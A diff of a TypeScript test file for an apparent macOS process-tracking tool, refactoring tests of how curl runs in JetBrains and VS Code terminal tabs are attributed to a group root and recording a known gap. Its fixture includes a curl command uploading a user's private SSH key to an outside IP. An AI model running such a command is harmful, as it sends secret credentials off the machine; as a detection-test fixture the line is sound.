@@ -33,14 +33,17 @@ const VSCODE = '/Applications/Visual Studio Code.app/Contents/MacOS/Electron';
 const HELPER = '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper';
 const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';
 
-it.each([
-  // JetBrains IDEs on macOS (ps output as seen in the wild): old code (aa8bbf4) made this a root (-i), new code does not
+const CASES = [
+  // JetBrains IDEs on macOS (ps output as seen in the wild): a root before 44dcdea (-i), not after it, a root again
   ['IntelliJ bash', [[900, 1, IDEA, IDEA], [950, 900, '/bin/bash', '/bin/bash --rcfile /Applications/IntelliJ IDEA.app/Contents/plugins/terminal/jediterm-bash.in -i']], { 900: ['com.jetbrains.intellij', '2ZEFAR8TH3'] }],
-  // VS Code's bash / fish shell integration (the launches 3b439b9 and dcdfd29 meant to make roots)
+  // VS Code's bash / fish shell integration
   ['VS Code bash', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/bin/bash', `/bin/bash --init-file ${SI}/shellIntegration-bash.sh`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
   ['VS Code fish', [[700, 1, VSCODE, VSCODE], [710, 700, HELPER, HELPER], [950, 710, '/opt/homebrew/bin/fish', `fish --init-command source "${SI}/shellIntegration.fish"`]], { 700: ['com.microsoft.VSCode', 'UBF8T346G9'], 710: ['com.microsoft.VSCode.helper', 'UBF8T346G9'] }],
-] as const)('ps-only: %s terminal tab is a group root', async (_n, rows, ids) => {
-  const dir = mkdtempSync(path.join(tmpdir(), 'review8-'));
+] as const;
+
+/** The group root of a curl run in the IDE's terminal tab (pid 950), after one ps refresh of `rows`. */
+async function rootOf(rows: (typeof CASES)[number][1], ids: (typeof CASES)[number][2]): Promise<{ root: number; kind: string }> {
+  const dir = mkdtempSync(path.join(tmpdir(), 'ps-ide-'));
   dirs.push(dir);
   const all = [[1, 0, '/sbin/launchd', '/sbin/launchd'], ...rows, [960, 950, '/usr/bin/curl', 'curl -T /Users/dana/.ssh/id_ed25519 https://203.0.113.5/']] as const;
   writeFileSync(path.join(dir, 'ps.txt'), all.map(([pid, ppid, comm]) => `${String(pid).padStart(5)} ${String(ppid).padStart(5)}   501 ${L} ${comm}\n`).join(''));
@@ -57,8 +60,16 @@ it.each([
       ctx.processes.observe({ pid: p.pid, processStart: p.processStart, signingId, teamId, platformBinary: false, source: 'ps', seenAt: clock.unix() });
     }
     const g = ctx.processes.group(ctx.processes.get(960)!);
-    expect({ root: g.root.pid, kind: g.rootKind }).toEqual({ root: 950, kind: 'terminal_shell' });
+    return { root: g.root.pid, kind: g.rootKind };
   } finally {
     await ctx.signing.stop();
   }
+}
+
+it('ps-only: the IntelliJ bash terminal tab is a group root', async () => {
+  expect(await rootOf(CASES[0][1], CASES[0][2])).toEqual({ root: 950, kind: 'terminal_shell' });
+});
+
+it.each([CASES[1], CASES[2]])('ps-only: the %s terminal tab goes to the IDE app (known gap: its split path reads as a script)', async (_n, rows, ids) => {
+  expect(await rootOf(rows, ids)).toEqual({ root: 700, kind: 'gui_app' });
 });
